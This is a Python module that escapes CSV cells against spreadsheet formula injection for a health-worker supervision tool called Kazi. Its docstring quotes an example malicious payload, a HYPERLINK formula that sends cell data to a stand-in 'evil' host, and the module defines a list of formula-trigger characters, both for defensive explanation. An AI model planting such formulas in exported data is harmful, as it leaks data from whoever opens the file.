"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

Every CSV Kazi serves (the supervision report, the interaction analytics tables) carries text that users
wrote: a contact's name, a username, a device id, a place ``_id``. Excel, LibreOffice and Google Sheets
read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or carriage return before
one) as a formula, so a CHW who names a contact ``=HYPERLINK("http://evil/?"&A1,"open")`` would have the
supervisor's spreadsheet send data away or run a command. OWASP's advice is followed: such a cell gets a
leading single quote (``'=HYPERLINK(...)``), which spreadsheets show as the text itself.

Numbers stay numbers: a value that is a number (``-3``, ``0.25``), or a string that is only a plain
decimal number (``-3``, ``+265888100001``, ``-1.5e3``), is written as it is, since a spreadsheet reads it
as that number and nothing else. Only the CSV is changed: the Parquet export and the JSON answers hold the
values exactly as stored.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

#: the first characters that make a spreadsheet read a cell as a formula (OWASP's list)
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value: object) -> object:
    """``value`` as a CSV cell: a string that a spreadsheet would run is prefixed with ``'``; anything else
    (numbers, ``None``, plain text, a string that is only a number) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Iterable[object]) -> list[object]:
    """A CSV row with every cell passed through :func:`cell`."""
    return [cell(v) for v in values]
